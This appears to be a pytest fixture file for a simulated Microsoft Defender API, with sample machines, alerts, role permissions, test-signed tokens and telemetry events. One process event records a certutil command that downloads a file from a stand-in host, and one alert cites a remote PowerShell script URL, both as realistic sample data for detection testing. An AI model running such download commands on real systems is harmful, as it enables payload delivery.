"""A Defender API over a handful of machines and alerts, in memory and with a clock that stands still.

Tokens are made with the server's own keys, so that a specification says exactly what a caller holds.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx2
import pytest

from vedette.catalogue.alerts import Alert, AlertComment, AlertEvidence, AlertRelatedUser
from vedette.catalogue.machines import Machine, MachineIpAddress
from vedette.simulation import Simulation, simulate
from vedette.telemetry import Lake, LakeWriter
from vedette.tenant.clock import FixedClock
from vedette.tenant.defender.app import DefenderApp
from vedette.tenant.directory import Directory, Tenant, User
from vedette.tenant.identity.keys import KeyRing
from vedette.tenant.state import Options, State
from vedette.tenant.store.database import Database
from vedette.tenant.store.defender import DefenderStore

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
TENANT = "11111111-1111-4111-8111-111111111111"
APP = "22222222-2222-4222-8222-222222222222"
AUDIENCE = "https://api.securitycenter.microsoft.com"
WS1, WS2, SRV = "a" * 40, "b" * 40, "c" * 40

MACHINES = [
    Machine(
        id=WS1,
        computer_dns_name="ws-01.halden.example",
        last_seen=NOW - timedelta(hours=1),
        os_platform="Windows11",
        health_status="Active",
        risk_score="High",
        exposure_level="Medium",
        rbac_group_id=1,
        rbac_group_name="Workstations",
        aad_device_id="33333333-3333-4333-8333-333333333333",
        machine_tags=["finance", "pilot-1"],
        ip_addresses=[MachineIpAddress(ip_address="10.0.0.1", mac_address="00155D000001", type="Ethernet")],
        onboarding_status="Onboarded",
    ),
    Machine(
        id=WS2,
        computer_dns_name="ws-02.halden.example",
        last_seen=NOW - timedelta(days=9),
        os_platform="Windows10",
        health_status="Inactive",
        risk_score="None",
        rbac_group_id=1,
        rbac_group_name="Workstations",
        onboarding_status="Onboarded",
    ),
    Machine(
        id=SRV,
        computer_dns_name="srv-01.halden.example",
        last_seen=NOW,
        os_platform="WindowsServer2022",
        health_status="Active",
        risk_score="Medium",
        rbac_group_id=2,
        rbac_group_name="Servers",
        machine_tags=["finance"],
        onboarding_status="Onboarded",
    ),
]

EVIDENCE = AlertEvidence(
    entity_type="Process",
    evidence_creation_time=NOW - timedelta(hours=2),
    sha1="d" * 40,
    file_name="powershell.exe",
    process_id=4711,
    account_name="mira",
)


def alert(number: int, **fields: Any) -> Alert:  # Any: fields of all types
    values: dict[str, Any] = {
        "id": f"da{number}",
        "title": f"Alert {number}",
        "severity": "Medium",
        "status": "New",
        "category": "Execution",
        "machine_id": WS1,
        "computer_dns_name": "ws-01.halden.example",
        "rbac_group_name": "Workstations",
        "alert_creation_time": NOW - timedelta(hours=number),
        "last_update_time": NOW - timedelta(hours=number),
        "aad_tenant_id": TENANT,
    }
    return Alert(**{**values, **fields})


ALERTS = [
    alert(
        1,
        severity="High",
        related_user=AlertRelatedUser(user_name="mira", domain_name="halden"),
        evidence=[
            EVIDENCE,
            AlertEvidence(entity_type="Ip", ip_address="203.0.113.9"),
            AlertEvidence(entity_type="Url", url="https://cdn.files.example:8443/a/b.ps1?x=1"),
        ],
    ),
    alert(2, status="InProgress", assigned_to="tier1@halden.example"),
    alert(
        3,
        status="Resolved",
        severity="Low",
        machine_id=SRV,
        computer_dns_name="srv-01.halden.example",
        rbac_group_name="Servers",
        comments=[AlertComment(comment="A test.", created_by="lena", created_time=NOW - timedelta(hours=3))],
    ),
]

LOGON = {"LogonType": "Interactive", "ActionType": "LogonSuccess", "AccountDomain": "halden", "AccountName": "mira"}
EVENTS: list[tuple[str, dict[str, object]]] = [
    (
        "DeviceLogonEvents",
        {"Timestamp": NOW - timedelta(days=2), "DeviceId": WS1, "ReportId": 1, "AccountSid": "S-1-5-21-1", **LOGON},
    ),
    ("DeviceLogonEvents", {"Timestamp": NOW - timedelta(days=1), "DeviceId": WS1, "ReportId": 2, **LOGON}),
    (
        "DeviceLogonEvents",
        {**LOGON, "Timestamp": NOW - timedelta(days=1), "DeviceId": SRV, "ReportId": 3, "LogonType": "Network"},
    ),
    (
        "DeviceLogonEvents",
        {"Timestamp": NOW, "DeviceId": WS1, "ReportId": 4, "ActionType": "LogonFailed", "AccountName": "guest"},
    ),
    (
        "DeviceProcessEvents",
        {
            "Timestamp": NOW - timedelta(hours=5, microseconds=123),
            "DeviceId": WS1,
            "ReportId": 77,
            "ActionType": "ProcessCreated",
            "FileName": "certutil.exe",
            "FolderPath": "C:\\Windows\\System32\\certutil.exe",
            "SHA1": "e" * 40,
            "FileSize": 1_622_016,
            "ProcessId": 900,
            "ProcessCommandLine": "certutil -urlcache -f http://cdn.files.example/x x.bin",
            "ProcessCreationTime": NOW - timedelta(hours=5, microseconds=123),
            "AccountName": "mira",
            "AccountDomain": "halden",
            "InitiatingProcessFileName": "cmd.exe",
            "InitiatingProcessId": 800,
        },
    ),
    (
        "DeviceNetworkEvents",
        {"Timestamp": NOW - timedelta(hours=4), "DeviceId": WS1, "ReportId": 78, "LocalIP": "10.0.0.1"},
    ),
    (
        "DeviceNetworkInfo",
        {
            "Timestamp": NOW - timedelta(hours=4, minutes=10),
            "DeviceId": SRV,
            "ReportId": 79,
            "IPAddresses": '[{"IPAddress": "10.0.0.1"}]',
        },
    ),
    (
        "DeviceImageLoadEvents",
        {
            "Timestamp": NOW - timedelta(hours=3),
            "DeviceId": WS1,
            "ReportId": 80,
            "FileName": "crypt32.dll",
            "FolderPath": "C:\\Windows\\System32\\crypt32.dll",
            "SHA1": "1" * 40,
            "FileSize": 1_000,
        },
    ),
    (
        "DeviceFileCertificateInfo",
        {"Timestamp": NOW - timedelta(hours=3), "DeviceId": WS1, "ReportId": 81, "SHA1": "1" * 40, "IsTrusted": True},
    ),
]

ROLES: Mapping[str, tuple[str, ...]] = {
    "viewer": ("View Data",),
    "investigator": ("View Data", "Alerts investigation"),
    "responder": ("View Data", "Alerts investigation", "Active remediation actions", "Manage security settings"),
}


class Api:
    """Calls the API as whoever holds the given permissions."""

    def __init__(self, state: State, clock: FixedClock) -> None:
        self.state = state
        self.clock = clock
        self._app = DefenderApp(state)

    def token(self, **claims: Any) -> str:  # Any: claims of all types
        """A token of an application; claims may be added, replaced or (None) left out."""
        moment = int(self.clock.now().timestamp())
        usual: dict[str, Any] = {
            "aud": AUDIENCE,
            "iss": f"https://sts.windows.net/{TENANT}/",
            "tid": TENANT,
            "appid": APP,
            "app_displayname": "soc-automation",
            "oid": "44444444-4444-4444-8444-444444444444",
            "iat": moment,
            "nbf": moment,
            "exp": moment + 3599,
            "ver": "1.0",
        }
        return self.state.keys.sign({name: v for name, v in {**usual, **claims}.items() if v is not None})

    def user_token(self, user: str, scopes: str, **claims: Any) -> str:  # Any: claims of all types
        """A token of a user, with delegated permissions."""
        found = self.state.directory.user(TENANT, f"{user}@halden.example")
        assert found is not None
        return self.token(scp=scopes, oid=found.id, upn=found.upn, **claims)

    def call(
        self,
        method: str,
        path: str,
        *,
        roles: tuple[str, ...] = (),
        token: str | None = None,
        headers: Mapping[str, str] | None = None,
        **body: Any,
    ) -> httpx2.Response:
        """One request, as an application that holds `roles`, or with `token`."""
        bearer = token or self.token(roles=list(roles))
        request = httpx2.Request(
            method,
            f"https://tenant.test{path}",
            headers={"Authorization": f"Bearer {bearer}"} if headers is None else headers,
            **body,
        )

        async def send() -> httpx2.Response:
            async with httpx2.AsyncClient(transport=httpx2.ASGITransport(self._app)) as client:
                return await client.send(request)

        return asyncio.run(send())

    def get(self, path: str, *roles: str) -> httpx2.Response:
        """GET as an application that holds `roles`."""
        return self.call("GET", path, roles=roles)

    def rows(self, path: str, *roles: str, token: str | None = None) -> list[dict[str, Any]]:  # Any: JSON
        """The rows of a listing that an application with `roles`, or the holder of `token`, gets."""
        answer = self.call("GET", path, roles=roles, token=token)
        assert answer.status_code == 200, answer.text
        found: list[dict[str, Any]] = answer.json()["value"]
        return found


@pytest.fixture(scope="session")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lake]:
    folder: Path = tmp_path_factory.mktemp("lake")
    with LakeWriter(Lake(folder)) as writer:
        writer.add_many(EVENTS)
    lake = Lake(folder)
    yield lake
    lake.close()


@pytest.fixture(scope="session")
def keys() -> KeyRing:
    """Made once: generating RSA keys takes longer than any test."""
    return KeyRing(Database(None), FixedClock(NOW))


@pytest.fixture
def api(lake: Lake, keys: KeyRing) -> Api:
    clock = FixedClock(NOW)
    database = Database(None)
    directory = Directory(database)
    directory.tenants.put(Tenant(id=TENANT, domain="halden.example", display_name="Halden Works", created=NOW))
    for number, (role, permissions) in enumerate(ROLES.items()):
        directory.users.put(
            User(
                id=f"5555555{number}-5555-4555-8555-555555555555",
                tenant_id=TENANT,
                upn=f"{role}@halden.example",
                display_name=role,
                defender_role=role,
                defender_permissions=list(permissions),
            ),
            User(
                id=f"6666666{number}-6666-4666-8666-666666666666",
                tenant_id=TENANT,
                upn=f"server-{role}@halden.example",
                display_name=f"server {role}",
                defender_role=role,
                defender_permissions=list(permissions),
                device_groups=["Servers"],
            ),
        )
    directory.users.put(
        User(
            id="77777777-7777-4777-8777-777777777777",
            tenant_id=TENANT,
            upn="outsider@halden.example",
            display_name="No role in Defender",
        )
    )
    store = DefenderStore(Database(None), lake)
    store.load(MACHINES, ALERTS)
    state = State(
        clock=clock,
        database=database,
        directory=directory,
        keys=keys,
        defender={TENANT: store},
        options=Options(),
    )
    return Api(state, clock)


@pytest.fixture(scope="session")
def story() -> Simulation:
    """A day of the simulated company: 24 machines in five device groups."""
    return simulate(days=1, until=NOW)


@pytest.fixture
def company(api: Api, story: Simulation) -> Api:
    """The same API over the machines and alerts of the simulated company."""
    store = api.state.defender[TENANT]
    for each in MACHINES:
        store.machines.delete(each.id)
    for known in ALERTS:
        store.alerts.delete(known.id)
    store.load(story.machines, story.alerts)
    return api
